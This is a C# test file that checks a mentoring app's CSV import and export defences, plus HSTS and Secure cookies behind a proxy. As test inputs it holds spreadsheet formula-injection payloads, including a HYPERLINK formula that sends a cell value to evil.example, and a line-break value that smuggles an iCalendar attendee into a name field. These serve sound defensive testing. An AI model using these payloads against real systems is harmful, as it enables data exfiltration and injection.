using System.Net;
using System.Text;
using Mentoring.Domain;
using Mentoring.Tests.Support;
using Microsoft.EntityFrameworkCore;

namespace Mentoring.Tests.Security;

/// <summary>Formula cells: exported neutralised, imported as text, and the round trip keeps the stored value.</summary>
public sealed class CsvFormulaTests(SqliteAppFixture app) : IClassFixture<SqliteAppFixture>
{
    [Fact]
    public async Task Formula_cells_are_exported_with_a_quote_and_come_back_unchanged()
    {
        using var admin = app.As(Roles.Admin);
        string[] names = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+2", "-3+cmd", "@SUM(A1)", "Plain Name"];
        var csv = "ExternalId,Name,Department\n" + string.Join("\n", names.Select((n, i) => $"CSV{i},\"{n.Replace("\"", "\"\"", StringComparison.Ordinal)}\",-5"));
        using var import = await admin.PostAsync("/api/people/import", new StringContent(csv, Encoding.UTF8, "text/csv"));
        Assert.True(import.IsSuccessStatusCode, await import.Content.ReadAsStringAsync());

        var exported = await admin.GetStringAsync("/api/people/export");
        Assert.Contains("'=HYPERLINK(", exported, StringComparison.Ordinal);
        Assert.Contains(",'+1+2,", exported, StringComparison.Ordinal);
        Assert.Contains(",'-3+cmd,", exported, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(A1),", exported, StringComparison.Ordinal);
        Assert.Contains(",-5,", exported, StringComparison.Ordinal);
        foreach (var line in exported.Split('\n'))
        {
            foreach (var cell in line.Split(','))
            {
                Assert.False(cell.Length > 0 && "=+@".Contains(cell.TrimStart('"')[0], StringComparison.Ordinal), $"formula cell exported: {cell}");
            }
        }

        // Export → import changes nothing.
        using var again = await admin.PostAsync("/api/people/import", new StringContent(exported, Encoding.UTF8, "text/csv"));
        var body = await again.Content.ReadAsStringAsync();
        Assert.True(again.IsSuccessStatusCode, body);
        Assert.Contains("\"updated\":0", body, StringComparison.Ordinal);
        await using var db = app.OpenContext();
        var stored = await db.People.Where(p => p.ExternalId.StartsWith("CSV")).OrderBy(p => p.ExternalId).Select(p => p.Name).ToListAsync();
        Assert.Equal(names, stored);
    }

    [Fact]
    public async Task A_name_with_a_line_break_is_refused_by_the_import_naming_line_and_column()
    {
        using var admin = app.As(Roles.Admin);
        using var import = await admin.PostAsync("/api/people/import",
            new StringContent("ExternalId,Name\nCR1,\"Eve\r\nATTENDEE;CN=Injected:mailto:attacker@evil.example\"\n", Encoding.UTF8, "text/csv"));
        var body = await import.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.BadRequest, import.StatusCode);
        Assert.Contains("\"column\":\"Name\"", body, StringComparison.Ordinal);
        Assert.Contains("line break", body, StringComparison.Ordinal);
    }
}

/// <summary>Behind a TLS-terminating proxy that is trusted by configuration: HSTS and Secure cookies.</summary>
public sealed class ForwardedHttpsFixture() : AppFixture(Data.DatabaseProvider.Sqlite)
{
    protected override Task<string[]> ExtraSettingsAsync() => Task.FromResult<string[]>(["--ForwardedHeaders:Enabled=true"]);
}

public sealed class ForwardedHttpsTests(ForwardedHttpsFixture app) : IClassFixture<ForwardedHttpsFixture>
{
    [Fact]
    public async Task A_request_the_proxy_says_came_over_https_gets_hsts_and_secure_cookies()
    {
        using var client = app.Anonymous();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/Account/SignIn");
        request.Headers.Add("X-Forwarded-Proto", "https");
        using var response = await client.SendAsync(request);
        Assert.True(response.Headers.Contains("Strict-Transport-Security"));
        var cookies = response.Headers.GetValues("Set-Cookie").ToList();
        Assert.NotEmpty(cookies);
        Assert.All(cookies, c => Assert.Contains("secure", c, StringComparison.OrdinalIgnoreCase));

        using var plain = await client.GetAsync("/Account/SignIn");
        Assert.False(plain.Headers.Contains("Strict-Transport-Security"));
    }
}
